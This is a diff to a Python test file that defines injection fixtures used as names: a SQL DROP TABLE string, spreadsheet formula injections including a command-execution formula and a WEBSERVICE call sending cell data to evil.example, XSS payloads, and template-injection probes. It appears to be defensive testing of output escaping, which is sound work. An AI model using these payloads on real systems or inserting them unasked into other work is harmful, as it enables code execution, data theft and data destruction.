@@ -15,7 +15,7 @@ from tests.simulator.profile import small
 
 YEAR = 2019
 AS_OF = "2020-02-01T00:00:00+07:00"
-SQL = "THT Robert'); DROP TABLE mart.fct_indicator; --"
+SQL = "THT Robert'; DROP TABLE mart.fct_indicator; --"
 LIVE = (
     "=cmd|'/C calc'!A0",
     '+HYPERLINK("http://evil.example","bấm")',
@@ -25,7 +25,7 @@ LIVE = (
     "\r=1+1",
     '=WEBSERVICE("http://evil.example/"&A1)',
 )
-MARKUP = ("<script>alert(1)</script>", '<img src=x onerror="alert(2)">', '"><a href="javascript:alert(3)">', "]]></system-out><x>")
+MARKUP = ("<script>alert`1`</script>", '<img src=x onerror="alert`2`">', '"><a href="javascript:alert`3`">', "]]></system-out><x>")
 TAGS = ("{{ 7 * 7 }}", "{%p for x in year %}", "{{ cycler.__init__.__globals__ }}", "{%tr if 1 %}", "{# ghi chú #}", "{{r evil }}")
 NAMES = (SQL, *LIVE, *MARKUP, *TAGS)
 SECRET = "secret-outside-raw"
